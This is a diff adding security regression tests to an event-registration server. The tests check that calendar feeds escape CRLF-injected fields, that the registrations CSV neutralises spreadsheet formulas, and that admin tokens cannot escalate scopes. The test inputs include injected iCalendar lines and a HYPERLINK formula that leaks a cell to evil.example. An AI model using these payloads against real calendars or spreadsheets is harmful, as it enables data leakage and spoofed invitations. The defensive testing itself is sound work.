@@ -1,6 +1,7 @@
 import { randomUUID } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
 import { print } from 'graphql';
+import ICAL from 'ical.js';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { ImportEventDocument, RegisterForEventDocument } from '../src/client/operations.js';
 import { futureEvent } from './support/future-event.js';
@@ -143,5 +144,60 @@ describe('caches keyed by what clients send stay bounded (item 2)', () => {
     const before = await serverRss();
     await round(20_000);
     expect((await serverRss()) - before).toBeLessThan(5 * 1024 * 1024);
+  });
+});
+
+describe('what an event\'s writers and registrants write stays text', () => {
+  const slug = `inject-${randomUUID().slice(0, 8)}`;
+  const injected = 'Title\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:Injected\r\nEND:VEVENT\r\nX-EVIL:1';
+  let sessionId: string;
+  beforeAll(async () => {
+    const file = futureEvent(slug);
+    file.event.title = injected;
+    (file.event as { summary?: string }).summary = `Summary\nBEGIN:VALARM\nACTION:DISPLAY\nEND:VALARM`;
+    const imported = await graphql({ query: print(ImportEventDocument), variables: { input: { file } } }, { headers: asAdmin });
+    expect(imported.json.data.importEvent.__typename).toBe('ImportEventPayload');
+    const read = await graphql({ query: `{ event(slug: "${slug}") { sessions { edges { node { id } } } } }` });
+    sessionId = read.json.data.event.sessions.edges[0].node.id;
+  });
+
+  it('calendar feeds escape the calendar\'s name and description (item 5)', async () => {
+    const text = await (await fetch(`${server.url}/events/${slug}.ics`)).text();
+    expect(text).not.toMatch(/^(METHOD|X-EVIL|BEGIN:VALARM|UID:evil)/m);
+    const calendar = new ICAL.Component(ICAL.parse(text));
+    expect(calendar.getAllSubcomponents('vevent')).toHaveLength(2);
+    expect(calendar.getFirstPropertyValue('method')).toBeNull();
+    expect(text.replaceAll('\r\n ', '')).toContain(`X-WR-CALNAME:${injected.replaceAll('\r\n', '\\n')}\r\n`);
+  });
+
+  it('the registrations CSV neutralises formulas (item 4)', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&C2,"Click")';
+    const registered = await graphql({
+      query: print(RegisterForEventDocument),
+      variables: { input: { eventSlug: slug, name: formula, organization: '@SUM(1+1)', email: `formula-${randomUUID().slice(0, 8)}@example.org`, attendanceMode: 'REMOTE', sessionIds: [sessionId], consent: true } },
+    });
+    expect(registered.json.data.registerForEvent.__typename).toBe('RegistrationPayload');
+    const csv = await (await fetch(`${server.url}/admin/events/${slug}/registrations.csv`, { headers: asAdmin })).text();
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example`);
+    expect(csv).toContain(`"'@SUM(1+1)"`);
+    // No cell starts with what a spreadsheet reads as a formula.
+    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
+  });
+});
+
+describe('admin tokens (item 10)', () => {
+  const create = (scopes: string[], authorization: string) =>
+    graphql(
+      { query: 'mutation ($input: CreateAdminTokenInput!) { createAdminToken(input: $input) { __typename ... on IssuedAdminToken { token } ... on Error { code } } }', variables: { input: { name: 'attack', scopes } } },
+      { headers: { authorization } },
+    );
+
+  it('a token never grants more than its creator holds', async () => {
+    const manager = await create(['MANAGE_TOKENS'], `Bearer ${adminSecret}`);
+    const token = manager.json.data.createAdminToken.token as string;
+    const escalated = await create(['MANAGE_TOKENS', 'READ_REGISTRATIONS', 'WRITE_EVENTS'], `Bearer ${token}`);
+    expect(escalated.json.data.createAdminToken).toEqual({ __typename: 'ForbiddenError', code: 'FORBIDDEN' });
+    const same = await create(['MANAGE_TOKENS'], `Bearer ${token}`);
+    expect(same.json.data.createAdminToken.__typename).toBe('IssuedAdminToken');
   });
 });
